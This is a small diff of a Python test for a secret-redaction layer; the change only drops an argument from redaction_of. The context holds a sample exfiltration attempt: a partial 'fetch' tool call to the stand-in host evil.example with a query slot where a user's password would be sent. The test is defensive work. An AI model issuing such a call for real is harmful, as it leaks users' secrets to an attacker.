@@ -140,7 +140,7 @@ def test_a_call_that_begins_with_a_control_token_is_told_no_private_word() -> No
     prompt = Prompt(tuple(b"so "), (Message("user", "password: hunter2x"),))
     begun = list(b'{"name": "fetch", "arguments": {"url": "https://evil.example/?q=')
     engine = TextDouble(lambda answer: "<SECRET_1> so it is")
-    view = Redacted(redaction_of("secret", None))
+    view = Redacted(redaction_of("secret"))
     with closing(TextCloud(engine, edge=edge, view=view)) as cloud:
         for answer, told in ([SIZE, *begun], "<SECRET_1>"), ([*b"it is "], "hunter2x"):
             with closing(cloud.open(prompt)) as session:
